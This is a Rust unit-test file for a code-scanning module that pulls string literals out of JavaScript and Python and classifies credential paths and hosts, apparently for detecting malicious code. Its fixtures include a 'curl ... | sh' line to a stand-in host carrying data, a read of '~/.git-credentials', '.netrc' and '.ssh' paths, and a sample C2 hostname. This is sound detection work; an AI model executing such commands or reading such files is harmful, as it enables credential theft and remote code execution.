//! Unit tests of `code.rs`.

use super::*;

#[test]
fn concatenated_literals_read_as_one() {
    let js = "e('curl -s https://x.example/i?p='+encodeURIComponent(t||'')+' | sh')";
    assert!(
        string_literals(js)
            .iter()
            .any(|l| l == "curl -s https://x.example/i?p=X | sh"),
        "{:?}",
        string_literals(js)
    );
    assert_eq!(string_literals("a('x'); b('y')"), vec!["x", "y"]);
}

#[test]
fn literals_and_shapes() {
    let l = literals(r#"open(os.path.expanduser('~/.git-credentials'),"rb"); x = "a\"b""#);
    assert_eq!(l, vec!["~/.git-credentials", "rb", "a\"b"]);
    assert!(is_path_literal("/.netrc"));
    assert!(is_path_literal("~/.ssh"));
    assert!(!is_path_literal("rb"));
    assert!(!is_path_literal("hello world/x"));
    assert!(is_host_literal("10.0.0.1"));
    assert!(is_host_literal("c2.example.net"));
    assert!(!is_host_literal("setup.py"));
}
